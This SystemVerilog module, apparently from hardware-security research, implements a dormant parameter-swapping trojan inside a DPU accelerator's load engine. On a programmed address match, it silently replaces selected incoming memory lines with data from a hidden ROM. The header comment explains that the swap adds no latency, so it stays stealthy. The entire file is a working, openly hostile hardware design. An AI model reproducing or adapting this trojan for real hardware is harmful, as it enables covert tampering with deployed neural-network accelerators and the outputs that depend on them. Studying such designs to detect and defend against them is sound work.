// load_trojan: the dormant, programmable parameter-swapping trojan that sits
// between the memory reader and the write controller of the LOAD engine.
//
// How it works. While the memory reader is in its CFG state for a new load
// instruction (cfg_valid), the load's start ddr_addr is looked up in the
// target table. On a hit the load becomes "active": the target's 64-bit
// line mask is loaded into the line-select shift register and the ROM read
// pointer is set to the target's first ROM line. For every memory line that
// then arrives (in_line.valid) the shift register advances; where its output
// bit is 1 the MUX puts the next trojan-ROM line in place of the incoming
// line, and the pointer advances. The ROM is read one line ahead, so the
// replacement is ready in the cycle the line arrives: out_line is a purely
// combinational function of in_line and the trojan state, and the load takes
// exactly as many cycles with or without the trojan acting. load_done ends
// the active load. With an empty (reset) target table nothing ever matches
// and out_line always equals in_line.
//
// Interface: cfg_valid/cfg_ddr_addr from the memory reader (one cycle per
// load), in_line from the memory reader, out_line to the write controller,
// tgt_* and rom_* program the target table and the ROM. active and swap are
// status outputs (swap is high in the cycle a line is exchanged).
//
// Follows the design description: address match in CFG, line mask in a
// shift register, ROM of whole lines, MUX in front of the write controller.
// The ROM pointer scheme (consecutive ROM lines per target, starting at a
// per-target base) is this design's own choice.
module load_trojan
  import dpu_pkg::*;
#(
  parameter int unsigned NUM_TARGETS = 8,
  parameter int unsigned ROM_LINES   = 128,
  localparam int unsigned IDX_W      = (NUM_TARGETS > 1) ? $clog2(NUM_TARGETS) : 1,
  localparam int unsigned ROM_AW     = $clog2(ROM_LINES)
) (
  input  logic              clk,
  input  logic              rst_n,
  // from the memory reader
  input  logic              cfg_valid,
  input  ddr_addr_t         cfg_ddr_addr,
  input  logic              load_done,
  input  line_wr_t          in_line,
  // to the write controller
  output line_wr_t          out_line,
  // programming
  input  logic              tgt_we,
  input  logic [IDX_W-1:0]  tgt_idx,
  input  trojan_target_t    tgt_entry,
  input  logic              rom_we,
  input  logic [ROM_AW-1:0] rom_addr,
  input  line_t             rom_wdata,
  // status
  output logic              active,
  output logic              swap
);

  logic              hit;
  mask_t             hit_mask;
  logic [ROM_AW-1:0] hit_rom_base;
  logic              start, stop, sel;
  logic              active_q;
  logic [ROM_AW-1:0] ptr_q, rom_rd_addr;
  line_t             rom_q;

  trojan_addr_match #(.NUM_TARGETS(NUM_TARGETS), .ROM_AW(ROM_AW)) u_match (
    .clk, .rst_n,
    .prog_we(tgt_we), .prog_idx(tgt_idx), .prog_entry(tgt_entry),
    .lookup_addr(cfg_ddr_addr),
    .hit, .hit_mask, .hit_rom_base
  );

  assign start = cfg_valid && hit;
  assign stop  = load_done || (cfg_valid && !hit);

  trojan_line_shreg #(.MASK_W_P(MASK_W)) u_shreg (
    .clk, .rst_n,
    .clear(stop), .load(start), .mask_in(hit_mask),
    .shift(active_q && in_line.valid),
    .sel
  );

  assign swap = active_q && in_line.valid && sel;

  // ROM read pointer, read one line ahead of use.
  always_ff @(posedge clk) begin
    if (!rst_n) begin
      active_q <= 1'b0;
      ptr_q    <= '0;
    end else begin
      if (start)     active_q <= 1'b1;
      else if (stop) active_q <= 1'b0;
      if (start)     ptr_q <= hit_rom_base;
      else if (swap) ptr_q <= ptr_q + 1'b1;
    end
  end

  always_comb begin
    if (start)     rom_rd_addr = hit_rom_base;
    else if (swap) rom_rd_addr = ptr_q + 1'b1;
    else           rom_rd_addr = ptr_q;
  end

  trojan_rom #(.ROM_LINES(ROM_LINES)) u_rom (
    .clk,
    .prog_we(rom_we), .prog_addr(rom_addr), .prog_data(rom_wdata),
    .rd_addr(rom_rd_addr), .rd_data(rom_q)
  );

  // The MUX.
  always_comb begin
    out_line = in_line;
    if (swap) out_line.data = rom_q;
  end

  assign active = active_q;

endmodule
